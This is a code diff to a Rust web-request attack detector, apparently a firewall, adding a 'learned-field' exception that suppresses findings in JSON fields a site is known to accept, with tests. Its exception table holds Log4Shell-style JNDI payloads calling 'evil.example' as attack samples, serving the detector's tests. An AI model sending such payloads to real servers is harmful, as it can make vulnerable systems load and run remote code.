@@ -59,11 +59,13 @@ pub enum Example {
     Cookie(&'static str),
     /// The same, of cookies that the site has issued.
     IssuedCookie(&'static str),
+    /// A member of JSON that the site has learned to carry what is found in it.
+    Opened(&'static str, &'static str),
     /// The body of a response.
     Page(&'static str),
 }
 
-use Example::{Body, Cookie, IssuedCookie, Json, Page, Query, Referer};
+use Example::{Body, Cookie, IssuedCookie, Json, Opened, Page, Query, Referer};
 
 /// The table.
 pub const EXCEPTIONS: &[Exception] = &[
@@ -252,6 +254,16 @@ pub const EXCEPTIONS: &[Exception] = &[
         why: "the application wrote it; lookups and objects act in whoever reads the cookie",
         benign: IssuedCookie("theme=dark; last_page=http://10.0.0.5:9090/metrics"),
         attack: IssuedCookie("theme=dark; lang=${jndi:ldap://evil.example/a}"),
+    },
+    Exception {
+        id: "learned-field",
+        classes: &[],
+        effect: Suppresses,
+        what: "a kind of finding for which this field of this page was opened, as many of its users send it ([fields.md](fields.md))",
+        but: "all other kinds; unless `fields.open = \"all\"`, what acts by itself, runs as markup, leaves its place or is disguised",
+        why: "the application takes such text in this field",
+        benign: Opened("pattern", "{{7*7}}"),
+        attack: Opened("pattern", "${jndi:ldap://evil.example/a}"),
     },
     Exception {
         id: "harmless-file",
@@ -690,7 +702,12 @@ pub fn markdown() -> String {
 mod tests {
     use std::sync::{Arc, LazyLock};
 
+    use portcullis_learn::{
+        FieldPlace, KindIn, KindNews, Knowledge, OpeningState, Site, Source, Standing, Store,
+    };
+
     use super::*;
+    use crate::detectors::field::Opens;
     use crate::{Analysis, Detectors, Level};
 
     static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);
@@ -703,6 +720,20 @@ mod tests {
         fn has_issued(&self, _: &[u8], _: &[u8]) -> bool {
             true
         }
+    }
+
+    /// A site whose field `name` carries these kinds, as a person has said.
+    fn carried(name: &'static str, kinds: Vec<&'static str>) -> Knowledge {
+        let (site, mut store) = (Site::default(), Store::default());
+        let place = FieldPlace::Json;
+        let found: Vec<_> = kinds.iter().map(|kind| KindIn { place, name: name.as_bytes(), kind }).collect();
+        let source = Source { network: 1, session: None, day: 1, standing: Standing::Trusted };
+        site.observe_kinds(source, b"POST", b"/", &found, KindNews::Carried);
+        store.learn(&site.take());
+        let ids: Vec<String> = store.openings().map(|(id, ..)| id).collect();
+        assert_eq!(ids.len(), kinds.len());
+        ids.iter().for_each(|id| assert!(store.decide(id, OpeningState::Live, 1)));
+        Knowledge::of(&store)
     }
 
     impl Example {
@@ -732,6 +763,15 @@ mod tests {
                     analysis.set_issuer(Arc::new(All));
                     let fields = [(&b"Cookie"[..], cookies.as_bytes())];
                     analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
+                }
+                Opened(name, value) => {
+                    analysis.value(&DETECTORS, at(Place::Json, name), value.as_bytes());
+                    let kinds = analysis.findings().iter().map(|found| found.kind.id).collect();
+                    analysis.clear();
+                    analysis.open_fields(Opens::Safe);
+                    let knowledge = Arc::new(carried(name, kinds));
+                    analysis.fields().judge_by(knowledge, b"POST", b"/");
+                    analysis.value(&DETECTORS, at(Place::Json, name), value.as_bytes());
                 }
                 Page(body) => {
                     analysis.value(&DETECTORS, Location::of(Place::ResponseBody), body.as_bytes());
